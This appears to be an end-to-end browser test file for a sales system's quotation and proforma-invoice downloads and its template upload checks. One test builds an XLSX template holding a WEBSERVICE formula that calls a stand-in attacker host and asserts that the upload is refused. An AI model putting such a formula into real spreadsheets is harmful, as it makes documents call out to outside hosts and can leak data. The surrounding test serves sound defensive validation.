// Documents in the browser (issue 15 §3): a rep downloads a quotation of an approved quote from the
// customer page (in Chinese), opened with ExcelJS, and the PDF from the documents list; a PI the
// company profile cannot carry (no beneficiary) is refused in words, with a link for an admin; an
// admin uploading a template with an unknown placeholder sees the refusal with its sheet and cell.
import { readFileSync } from 'node:fs';
import ExcelJS from 'exceljs';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { validatedDefaults } from '../../server/rules/defaults.js';
import { workbookHtml } from '../../server/documents/html-rendering.js';
import { createUiWorld, type UiWorld } from './support/ui-world.js';

/** A quote's last valid day: two months from the day the test runs (a past day is refused). */
const VALID_UNTIL = new Date(Date.now() + 60 * 86_400_000).toISOString().slice(0, 10);

let w: UiWorld;
let repPage: Page;
let adminPage: Page;
let customerId: string;
const COMPANY = 'Hamburg Solar Handel GmbH';

beforeAll(async () => {
  w = await createUiWorld({ reclaim: validatedDefaults().reclaim });
  const { h } = w;
  expect((await h.call(h.adminToken, 'POST', '/teams', { id: 'east', name: 'East' })).status).toBe(201);
  const manager = await h.createRep({ id: 'wang', role: 'manager', teamId: 'east' });
  await h.db.updateTable('teams').set({ manager_id: 'wang' }).where('id', '=', 'east').execute();
  const rep = await h.createRep({ id: 'li', teamId: 'east' });
  // No beneficiary: a quotation is generated, a PI is refused (COMPANY_PROFILE_INCOMPLETE).
  await h.call(h.adminToken, 'PUT', '/company-profile', {
    name: '宁波日升光伏有限公司',
    address: '浙江省宁波市港湾路 8 号',
    phone: '+86 574 8888 0000',
    email: 'sales@sunrise.example',
    bankName: '中国银行宁波分行',
    bankAccount: '3581 0000 1234 5678',
    bankSwift: 'BKCHCNBJ92A',
    signatory: '李伟',
    signatoryTitle: '销售总监',
    defaultIncoterms: 'FOB 宁波',
    defaultPaymentTerms: '30% 预付，70% 见提单副本付款',
  });
  customerId = await h.createCustomer({ companyName: COMPANY, country: 'DE', contactName: 'Anna Schmidt', email: 'anna@solar-handel.example' });
  for (const step of ['claim', 'inquiry', 'costing']) expect((await h.call(rep.token, 'POST', `/customers/${customerId}/${step}`, step === 'claim' ? undefined : {})).status).toBe(200);
  const quote = await h.call(rep.token, 'POST', `/customers/${customerId}/quotes`, {
    currency: 'USD',
    discountPct: 12,
    marginPct: 22,
    validUntil: VALID_UNTIL,
    items: [
      { sku: 'INV-5K', description: '光伏逆变器 5 kW', quantity: 10, unitPrice: 4000 },
      { sku: 'PNL-450', description: '单晶组件 450 W', quantity: 200, unitPrice: 105.5 },
    ],
  });
  expect(quote.status).toBe(200);
  expect((await h.call(manager.token, 'POST', `/approvals/${quote.body.quote.id}/approve`, { comment: '利润可以' })).status).toBe(200);
  // USD 50,000 or more: an admin signs the second level.
  expect((await h.call(h.adminToken, 'POST', `/approvals/${quote.body.quote.id}/approve`, {})).status).toBe(200);
  repPage = await w.signIn(await w.browser({ locale: 'zh-CN' }), rep.token);
  adminPage = await w.signIn(await w.browser(), h.adminToken);
}, 180_000);
afterAll(() => w?.close());

async function downloaded(page: Page, click: () => Promise<void>) {
  const [download] = await Promise.all([page.waitForEvent('download'), click()]);
  return { name: download.suggestedFilename(), bytes: readFileSync((await download.path())!) };
}

describe('a quotation from the customer page', () => {
  it('is downloaded as XLSX from the approved quote, listed with who generated it, and as PDF from the list', async () => {
    await repPage.goto(`${w.baseUrl}/ui/customers/${customerId}`);
    await repPage.locator('[data-testid=quotes] li').first().waitFor();
    const action = repPage.getByRole('group', { name: '下载报价单 / PI' });
    await action.getByLabel('单据').selectOption('quotation');
    await action.getByLabel('语言').selectOption('zh');
    const xlsx = await downloaded(repPage, () => action.getByRole('button', { name: 'XLSX' }).click());
    expect(xlsx.name).toMatch(/^Q-\d{8}-[0-9A-F]{6}-v1-quotation-zh\.xlsx$/);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.bytes as unknown as ArrayBuffer);
    const s = book.worksheets[0]!;
    expect(s.getCell('A1').value).toBe('宁波日升光伏有限公司');
    expect(s.getCell('A5').value).toBe('报价单');
    expect(s.getCell('B7').value).toBe(COMPANY);
    expect(s.getCell('C13').value).toBe('光伏逆变器 5 kW');
    expect(s.getCell('G15').value).toBe(61_100);
    expect(String(s.getCell('C24').value)).toMatch(/^第1级 Rep wang /);

    const rows = repPage.locator('[data-testid=documents] tbody tr');
    await expect.poll(() => rows.count()).toBe(1);
    expect(await rows.first().textContent()).toContain('Rep li');
    expect(await rows.first().textContent()).toContain('报价单');
    const pdf = await downloaded(repPage, () => rows.first().getByRole('button', { name: 'PDF' }).click());
    expect(pdf.name).toMatch(/-quotation-zh\.pdf$/);
    expect(pdf.bytes.subarray(0, 4).toString()).toBe('%PDF');
    await w.screenshot(repPage, 'customer-documents-zh');

    // The page the PDF is printed from (docs/screenshots/quotation-zh.png in the README).
    const view = await (await w.browser()).newPage();
    await view.setViewportSize({ width: 900, height: 1000 });
    await view.setContent(await workbookHtml(xlsx.bytes, 'quotation'));
    await w.screenshot(view, 'quotation-zh');
  }, 120_000);
});

describe('a PI the company profile cannot carry', () => {
  it('is refused in words naming the missing field as the profile form does, with the way to the profile for an admin', async () => {
    await repPage.goto(`${w.baseUrl}/ui/customers/${customerId}`);
    const action = repPage.getByRole('group', { name: '下载报价单 / PI' });
    await action.getByLabel('单据').selectOption('proforma_invoice');
    await action.getByRole('button', { name: 'XLSX' }).click();
    const alert = action.getByRole('alert');
    await alert.waitFor();
    expect(await alert.getAttribute('data-code')).toBe('COMPANY_PROFILE_INCOMPLETE');
    expect(await alert.textContent()).toBe('公司信息缺少“收款人”，无法生成形式发票（PI）：客户将无法付款。请管理员在“设置 → 单据模板”中填写。');
    expect(await alert.getByRole('link').count()).toBe(0);
    await expect.poll(() => repPage.locator('[data-testid=documents] tbody tr').count()).toBe(1);

    await adminPage.goto(`${w.baseUrl}/ui/customers/${customerId}`);
    const adminAction = adminPage.getByRole('group', { name: 'Download quotation / PI' });
    await adminAction.getByLabel('Document').selectOption('proforma_invoice');
    await adminAction.getByRole('button', { name: 'XLSX' }).click();
    const link = adminAction.getByRole('alert').getByRole('link', { name: 'Fill in the company profile' });
    await link.waitFor();
    expect(await adminAction.getByRole('alert').textContent()).toContain('The company profile has no “Beneficiary”, so no PI can be generated');
    expect(await link.getAttribute('href')).toBe('/ui/settings/documents');
  }, 60_000);
});

describe('template upload in the settings', () => {
  it('shows a refused template with the sheet and cell of each problem', async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('Quote');
    sheet.getCell('A1').value = '${customer.name}';
    sheet.getCell('B9').value = '${customer.nmae}';
    sheet.getCell('E1').value = { formula: 'WEBSERVICE("http://attacker.example")' } as ExcelJS.CellFormulaValue;
    const file = Buffer.from(await book.xlsx.writeBuffer());
    await adminPage.goto(`${w.baseUrl}/ui/settings/documents`);
    await adminPage.locator('[data-testid=templates-table] tbody tr').first().waitFor();
    expect(await adminPage.locator('[data-testid=templates-table] tbody tr').count()).toBe(4);
    // Built-in templates are named in the reader's language, whatever the template's own.
    expect(await adminPage.locator('[data-template=builtin-quotation-zh] td').first().textContent()).toBe('Quotation (built-in, Chinese)');
    const form = adminPage.getByRole('form', { name: 'Upload template' });
    await form.getByLabel('Name').fill('Broken quotation');
    await form.getByLabel('XLSX file').setInputFiles({ name: 'broken.xlsx', mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', buffer: file });
    await form.getByRole('button', { name: 'Upload template' }).click();
    const alert = form.getByRole('alert');
    await alert.waitFor();
    const text = await alert.textContent();
    expect(text).toContain('Quote!B9: unknown placeholder ${customer.nmae}');
    expect(text).toContain('Quote!E1: formula =WEBSERVICE("http://attacker.example") uses WEBSERVICE');
    expect(text).toContain('missing the required placeholder ${totals.total}');
    expect(await adminPage.locator('[data-testid=templates-table] tbody tr').count()).toBe(4);
    await w.screenshot(adminPage, 'document-template-refused');
  }, 60_000);
});
